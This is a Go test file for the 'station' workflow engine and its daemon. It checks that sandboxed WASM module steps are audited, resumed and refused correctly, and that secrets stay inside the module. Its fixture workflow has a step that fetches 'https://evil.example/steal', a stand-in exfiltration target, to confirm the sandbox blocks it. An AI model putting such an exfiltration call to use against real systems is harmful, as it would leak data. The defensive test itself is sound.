package workflow_test

// Tests of Service, the station's workflow engine, and of its daemon side
// (Daemon, Remote), against a real station with the example modules: what
// `station workflow` and `station serve` call.

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/station-dev/station/internal/daemon"
	"github.com/station-dev/station/internal/fixture"
	"github.com/station-dev/station/internal/llm/llmtest"
	"github.com/station-dev/station/internal/sandbox"
	"github.com/station-dev/station/internal/station"
	"github.com/station-dev/station/internal/store"
	"github.com/station-dev/station/internal/wasmbuild"
	"github.com/station-dev/station/internal/workflow"
)

// serviceWorld is a station with station/hello and dave/stripe-invoicing
// installed, a fake Stripe, an evil.example that must see no connection,
// and (with llm) an LLM provider, as the operator would configure them.
type serviceWorld struct {
	st    *station.Station
	svc   *workflow.Service
	evil  *fixture.Server
	files string
	// auth are the Authorization headers the fake Stripe received, and
	// customers the customers it was asked to invoice; with failNext set,
	// it refuses the next invoice, quoting the customer back.
	mu        sync.Mutex
	auth      []string
	customers []string
	failNext  bool
}

// stripeKey is the value of STRIPE_KEY stored for dave/stripe-invoicing
// in a serviceWorld.
const stripeKey = "sk_test_stored_9f8e7d6c5b4a"

func newServiceWorld(t *testing.T, withLLM bool) *serviceWorld {
	t.Helper()
	home := t.TempDir()
	ca := fixture.NewCA(t)
	w := &serviceWorld{files: t.TempDir()}
	stripe := ca.TLSServer(t, http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		r.ParseForm()
		w.mu.Lock()
		w.auth = append(w.auth, r.Header.Get("Authorization"))
		w.customers = append(w.customers, r.PostForm.Get("customer"))
		fail := w.failNext
		w.failNext = false
		w.mu.Unlock()
		if fail {
			rw.WriteHeader(http.StatusBadRequest)
			json.NewEncoder(rw).Encode(map[string]any{"error": map[string]string{"message": "No such customer: '" + r.PostForm.Get("customer") + "'"}})
			return
		}
		fmt.Fprint(rw, `{"id":"in_1","status":"draft","amount_due":1200,"currency":"eur"}`)
	}), "api.stripe.com")
	w.evil = ca.TLSServer(t, http.HandlerFunc(func(http.ResponseWriter, *http.Request) {}), "evil.example")
	cfg := fmt.Sprintf("network:\n  resolve: [\"api.stripe.com:443=%s\", \"evil.example:443=%s\"]\n  extra_ca: %s\n  allow_private: [127.0.0.0/8]\n",
		stripe.Addr, w.evil.Addr, ca.WriteFile(t, home))
	if err := os.WriteFile(filepath.Join(home, "config.yaml"), []byte(cfg), 0o600); err != nil {
		t.Fatal(err)
	}
	env := map[string]string{}
	if withLLM {
		l := llmtest.New(t)
		env = map[string]string{"STATION_LLM_BASE_URL": l.URL, "STATION_LLM_API_KEY": l.Key, "STATION_LLM_MODEL": llmtest.DefaultModel}
	}
	getenv := func(k string) string { return env[k] }
	st, err := station.Open(context.Background(), home, station.Options{Cache: sharedCache(), Getenv: getenv})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { st.Close(context.Background()) })
	w.st = st
	for _, ex := range []string{"hello", "stripe-invoicing"} {
		dir := t.TempDir()
		man, err := os.ReadFile(filepath.Join(repoRoot(t), "examples", ex, "module.yaml"))
		if err != nil {
			t.Fatal(err)
		}
		os.WriteFile(filepath.Join(dir, "module.yaml"), man, 0o600)
		os.WriteFile(filepath.Join(dir, "module.wasm"), wasmbuild.ForTest(t, "examples/"+ex), 0o600)
		if _, err := st.Install(context.Background(), dir, func(station.Plan) (bool, error) { return true, nil }); err != nil {
			t.Fatalf("install %s: %v", ex, err)
		}
	}
	if err := st.SetSecret(context.Background(), "dave/stripe-invoicing", "STRIPE_KEY", []byte(stripeKey)); err != nil {
		t.Fatal(err)
	}
	if w.svc, err = workflow.NewService(context.Background(), st, getenv); err != nil {
		t.Fatal(err)
	}
	return w
}

func (w *serviceWorld) authorizations() []string {
	w.mu.Lock()
	defer w.mu.Unlock()
	return append([]string(nil), w.auth...)
}

func (w *serviceWorld) file(t *testing.T, name, src string) *workflow.Workflow {
	t.Helper()
	p := filepath.Join(w.files, name)
	if err := os.WriteFile(p, []byte(src), 0o600); err != nil {
		t.Fatal(err)
	}
	wf, err := workflow.LoadFile(p)
	if err != nil {
		t.Fatal(err)
	}
	return wf
}

// events records the kinds of a run's progress events, with the step.
type events struct{ got []string }

func (e *events) add(ev workflow.Event) {
	e.got = append(e.got, fmt.Sprintf("%s %s %d", ev.Kind, ev.Step, ev.Attempt))
}

const stealWorkflow = `steps:
  - id: greeting
    uses: station/hello greet
    with: {name: Ada}
  - id: steal
    uses: dave/stripe-invoicing fetch
    needs: greeting
    with: {url: "https://evil.example/steal"}
`

// TestServiceViolationAndResume: a step's sandbox violation fails the run
// with the very error station run gives (so the CLI exits 3 with the same
// message), evil.example sees no connection, the run shows the denial under
// the step's attempt; a resume reuses the finished step and runs the failed
// one again (attempt 2), and a changed file is refused.
func TestServiceViolationAndResume(t *testing.T) {
	w := newServiceWorld(t, false)
	ctx := context.Background()
	wf := w.file(t, "steal.yaml", stealWorkflow)

	var ev events
	res, err := w.svc.Start(ctx, wf, nil, ev.add)
	_, direct := w.st.Run(ctx, "dave/stripe-invoicing", "fetch", []byte(`{"url":"https://evil.example/steal"}`))
	var v *sandbox.Violation
	if !errors.As(err, &v) || !errors.As(direct, new(*sandbox.Violation)) {
		t.Fatalf("run: %v (station run: %v), want sandbox violations", err, direct)
	}
	if want := "workflow steal: step steal: " + direct.Error(); err.Error() != want {
		t.Errorf("error:\n got %s\nwant %s", err, want)
	}
	if res == nil || res.Status != store.RunFailed {
		t.Fatalf("result %+v, want the failed run", res)
	}
	if n := w.evil.Accepted(); n != 0 {
		t.Errorf("evil.example accepted %d connections", n)
	}
	if err := w.st.Audit.Flush(ctx); err != nil {
		t.Fatal(err)
	}
	shown, err := w.svc.Show(ctx, res.RunID)
	if err != nil {
		t.Fatal(err)
	}
	denied := shown.Audit[workflow.Trace(res.RunID, "steal", 1)]
	if len(denied) != 1 || denied[0].Allowed || denied[0].Target != "evil.example:443" || !strings.Contains(denied[0].Reason, "is not in its allowlist") {
		t.Errorf("the run's audit of the step = %+v, want the denial of evil.example:443", denied)
	}

	ev = events{}
	if _, err := w.svc.Resume(ctx, res.RunID, "", nil, ev.add); !errors.As(err, &v) {
		t.Fatalf("resume: %v, want the violation again", err)
	}
	if got := strings.Join(ev.got, "; "); !strings.Contains(got, "step_reused greeting 0") || !strings.Contains(got, "step_started steal 2") || strings.Contains(got, "step_started greeting") {
		t.Errorf("resume events: %s", got)
	}
	if n := w.evil.Accepted(); n != 0 {
		t.Errorf("evil.example accepted %d connections", n)
	}

	w.file(t, "steal.yaml", stealWorkflow+"# edited\n")
	if _, err := w.svc.Resume(ctx, res.RunID, "", nil, nil); !errors.Is(err, workflow.ErrChanged) || !strings.Contains(err.Error(), "changed since the run started") {
		t.Errorf("resume of a changed file: %v", err)
	}
}

// TestServiceRefusesWhatCheckRefuses: a module that is not installed or
// lacks a command, and llm steps without a provider, are problems of the
// check, with what to do; Start refuses to record a run of them. A run the
// store does not have is ErrNoRun.
func TestServiceRefusesWhatCheckRefuses(t *testing.T) {
	w := newServiceWorld(t, false)
	ctx := context.Background()
	missing := w.file(t, "missing.yaml", "steps:\n  - {id: a, uses: nobody/none run}\n  - {id: b, uses: station/hello wave}\n")
	rep, err := w.svc.Check(ctx, missing)
	if !errors.Is(err, workflow.ErrCheck) || rep == nil {
		t.Fatalf("check: %v (report %v)", err, rep)
	}
	for _, want := range []string{"module nobody/none is not installed (install it with: station module install DIR)", `module station/hello has no command "wave"`} {
		if !strings.Contains(err.Error(), want) {
			t.Errorf("check error does not contain %q:\n%s", want, err)
		}
	}
	if len(rep.Modules) != 2 || rep.Modules[0].Installed || !rep.Modules[1].Installed || len(rep.Modules[1].Permissions) == 0 {
		t.Errorf("report modules %+v", rep.Modules)
	}
	if res, err := w.svc.Start(ctx, missing, nil, nil); res != nil || !errors.Is(err, workflow.ErrCheck) {
		t.Errorf("start: %v, %v; want the check's refusal and no run", res, err)
	}
	if runs, err := w.svc.Runs(ctx, 10); err != nil || len(runs) != 0 {
		t.Errorf("runs after a refused start: %v, %v", runs, err)
	}

	llmFile := w.file(t, "llm.yaml", "steps:\n  - {id: a, uses: llm, with: {prompt: hi}}\n")
	rep, err = w.svc.Check(ctx, llmFile)
	if rep == nil || rep.LLM == nil || rep.LLM.Provider != "" || err == nil || !strings.Contains(err.Error(), "no provider is configured: set llm.provider or llm.base_url") {
		t.Errorf("check without a provider: %v (report %+v)", err, rep)
	}

	for _, err := range []error{
		func() error { _, err := w.svc.Show(ctx, 42); return err }(),
		func() error { _, err := w.svc.Resume(ctx, 42, "", nil, nil); return err }(),
	} {
		if !errors.Is(err, workflow.ErrNoRun) || !errors.Is(err, store.ErrNotFound) || !strings.Contains(err.Error(), "workflow run 42: not found") {
			t.Errorf("unknown run: %v, want ErrNoRun and store.ErrNotFound", err)
		}
	}
	if _, err := workflow.ParseRunID("abc"); err == nil || err.Error() != `"abc" is not a run id` {
		t.Errorf("ParseRunID(abc) = %v", err)
	}
}

// TestServiceThroughTheDaemon: the daemon serves the service (Daemon), and
// Remote runs a workflow there with the same events, result and errors as
// in process: a violation is still a *sandbox.Violation, a resume finds the
// run's file, an unknown run is ErrNoRun; check, runs and show answer.
func TestServiceThroughTheDaemon(t *testing.T) {
	w := newServiceWorld(t, true)
	ctx, cancel := context.WithCancel(context.Background())
	ln, err := daemon.Listen("127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	ready := make(chan struct{})
	srv, err := daemon.New(daemon.Options{Station: w.st, Workflows: w.svc.Daemon(), Ready: func() { close(ready) }})
	if err != nil {
		t.Fatal(err)
	}
	done := make(chan error, 1)
	go func() { done <- srv.Serve(ctx, ln, 5*time.Second) }()
	t.Cleanup(func() {
		cancel()
		if err := <-done; err != nil {
			t.Errorf("serve: %v", err)
		}
	})
	select {
	case <-ready:
	case err := <-done:
		t.Fatalf("serve: %v", err)
	}
	c, err := daemon.Dial(ctx, w.st.Home)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	remote := workflow.Remote{Client: c}

	wf := w.file(t, "invoice.yaml", `name: invoice
inputs:
  customer: {required: true}
steps:
  - id: invoice
    uses: dave/stripe-invoicing create-invoice
    with: {customer: "${{ inputs.customer }}"}
  - id: note
    uses: llm
    with: {prompt: "Invoice ${{ steps.invoice.output.id }}"}
output:
  invoice: ${{ steps.invoice.output.id }}
  note: ${{ steps.note.output.content }}
`)
	var ev events
	res, err := remote.Start(ctx, wf, map[string]any{"customer": "cus_42"}, ev.add)
	if err != nil {
		t.Fatal(err)
	}
	if res.Status != store.RunSucceeded || res.RunID != 1 || string(res.Output) != `{"invoice":"in_1","note":"echo: Invoice in_1"}` {
		t.Errorf("result %+v (output %s)", res, res.Output)
	}
	// The module used its own secret: Stripe saw the stored value, which
	// neither the workflow nor the module held.
	if got := w.authorizations(); len(got) != 1 || got[0] != "Bearer "+stripeKey {
		t.Errorf("Stripe saw Authorization %q, want the stored key", got)
	}
	if got := strings.Join(ev.got, "; "); got != "run_started  0; step_started invoice 1; step_succeeded invoice 1; step_started note 1; step_succeeded note 1; run_finished  0" {
		t.Errorf("events: %s", got)
	}

	// A changed file is not sent as the workflow that was checked.
	os.WriteFile(wf.File, []byte("steps: []\n"), 0o600)
	if _, err := remote.Start(ctx, wf, nil, nil); err == nil || !strings.Contains(err.Error(), "changed while it was being read") {
		t.Errorf("start of a file changed since it was loaded: %v", err)
	}

	steal := w.file(t, "steal.yaml", stealWorkflow)
	res, err = remote.Start(ctx, steal, nil, nil)
	var v *sandbox.Violation
	if !errors.As(err, &v) || !errors.Is(err, daemon.ErrWorkflow) || res == nil || res.Status != store.RunFailed {
		t.Fatalf("a step's violation through the daemon: %v (%+v)", err, res)
	}
	ev = events{}
	if _, err := remote.Resume(ctx, res.RunID, "", nil, ev.add); !errors.As(err, &v) || !strings.Contains(strings.Join(ev.got, "; "), "step_started steal 2") {
		t.Errorf("resume through the daemon: %v, events %v", err, ev.got)
	}
	if _, err := remote.Resume(ctx, 42, "", nil, nil); !errors.Is(err, workflow.ErrNoRun) {
		t.Errorf("resume of an unknown run: %v, want ErrNoRun", err)
	}
	if n := w.evil.Accepted(); n != 0 {
		t.Errorf("evil.example accepted %d connections", n)
	}

	// The daemon's other workflow endpoints.
	var rep workflow.Report
	err = c.CheckWorkflow(ctx, daemon.WorkflowRequest{Name: "missing.yaml", Source: "steps:\n  - {id: a, uses: nobody/none run}\n"}, &rep)
	if !errors.Is(err, daemon.ErrWorkflow) || len(rep.Problems) != 1 {
		t.Errorf("check through the daemon: %v (report %+v)", err, rep)
	}
	if err := c.CheckWorkflow(ctx, daemon.WorkflowRequest{Name: "bad.yaml", Source: "steps: [{id: a, uses: x, timout: 1s}]\n"}, nil); !errors.Is(err, daemon.ErrWorkflow) || !strings.Contains(err.Error(), `bad.yaml:1:`) {
		t.Errorf("check of an invalid file: %v", err)
	}
	var runs []store.WorkflowRun
	if err := c.WorkflowRuns(ctx, 10, &runs); err != nil || len(runs) != 2 || runs[0].Workflow != "steal" {
		t.Errorf("runs through the daemon: %v %+v", err, runs)
	}
	var shown workflow.ShownRun
	if err := c.WorkflowRun(ctx, "1", &shown); err != nil || shown.ID != 1 || len(shown.Audit[workflow.Trace(1, "invoice", 1)]) == 0 {
		t.Errorf("show through the daemon: %v %+v", err, shown)
	}
	if err := c.WorkflowRun(ctx, "abc", &shown); err == nil || !strings.Contains(err.Error(), `"abc" is not a run id`) {
		t.Errorf("show of a bad id: %v", err)
	}
}
